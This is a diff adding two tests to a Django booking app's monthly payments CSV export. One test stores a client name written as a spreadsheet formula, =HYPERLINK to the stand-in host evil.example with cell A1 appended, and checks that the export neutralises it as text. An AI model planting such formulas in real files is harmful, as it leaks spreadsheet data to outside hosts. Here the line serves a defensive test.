@@ -174,3 +174,43 @@ def test_staff_who_may_not_see_payments_get_no_books(client, june, django_user_m
     url = reverse("admin:shoots_payment_books_csv", args=["2026", "06"])
     assert client.get(url).status_code == 403
     assert Booking.objects.count() == 1
+
+
+def test_a_name_typed_as_a_formula_stays_text_in_the_csv(vat):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    booking = BookingFactory(booked_as=formula)
+    with time_machine.travel(datetime(2026, 6, 2, 9, tzinfo=UTC), tick=False):
+        booking_invoice_issue(booking_id=booking.pk)
+    received(booking, 5000, datetime(2026, 6, 3, 10, tzinfo=UTC))
+    rows = rows_of(month_csv(JUNE, LONDON))
+    assert [row["Client"] for row in rows] == [f"'{formula}"] * 2
+    assert rows[1]["Gross"] == "50.00"
+
+
+def test_money_paid_twice_comes_in_and_goes_back_in_the_csv_as_in_the_ledger(vat):
+    booking = BookingFactory()
+    deposit = received(
+        booking, 5000, datetime(2026, 6, 3, 10, tzinfo=UTC), stripe_payment_intent_id="pi_1"
+    )
+    with time_machine.travel(datetime(2026, 6, 4, 9, tzinfo=UTC), tick=False):
+        Refund.objects.create(
+            payment=deposit,
+            amount=5000,
+            currency="GBP",
+            reason=Refund.Reason.DUPLICATE,
+            status=Refund.Status.SUCCEEDED,
+            stripe_payment_intent_id="pi_2",
+        )
+    rows = rows_of(month_csv(JUNE, LONDON))
+    assert [(r["Type"], r["Gross"], r["Reference"]) for r in rows] == [
+        ("Payment", "50.00", "pi_1"),
+        ("Payment (paid twice)", "50.00", "pi_2"),
+        ("Refund", "-50.00", ""),
+    ]
+    [ledger] = money_ledger(
+        since=datetime(2026, 6, 1, tzinfo=LONDON),
+        until=datetime(2026, 7, 1, tzinfo=LONDON),
+        zone=LONDON,
+    )
+    money = sum(round(float(r["Gross"]) * 100) for r in rows)
+    assert money == ledger.net == 5000
